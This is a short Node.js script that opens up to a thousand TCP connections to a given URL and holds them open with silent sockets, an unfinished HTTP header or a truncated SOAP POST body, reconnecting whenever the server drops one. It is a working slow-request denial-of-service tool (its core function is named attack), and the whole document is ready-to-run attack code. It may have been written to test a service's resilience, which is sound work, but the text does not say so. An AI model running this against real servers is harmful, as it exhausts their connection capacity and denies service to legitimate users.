// Opens connections and keeps them open: silent, with half a head, or with half a body.
// node idle-connections.js URL [connections] [silent|head|body] [again]: prints `ready` once all were tried. With `again` those that are cut
// off come again at once.
import { connect } from 'node:net';

const [url, connections = '1000', kind = 'silent', again = ''] = process.argv.slice(2);
const { hostname, port, host } = new URL(url);
const FIRST = {
  silent: '',
  head: `POST /soap/leerresultaten HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `,
  body: `POST /soap/leerresultaten HTTP/1.1\r\nHost: ${host}\r\nContent-Type: text/xml\r\nContent-Length: 100000\r\n\r\n<s:Envelope`,
};

function attack() {
  return new Promise((done) => {
    const socket = connect(Number(port), hostname);
    socket.on('connect', () => {
      socket.write(FIRST[kind]);
      done();
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      done();
      if (again !== '') setTimeout(attack, 20);
    });
  });
}

const all = Number(connections);
for (let at = 0; at < all; at += 100) await Promise.all(Array.from({ length: Math.min(100, all - at) }, attack));
process.stdout.write('ready\n');
setInterval(() => undefined, 1000);
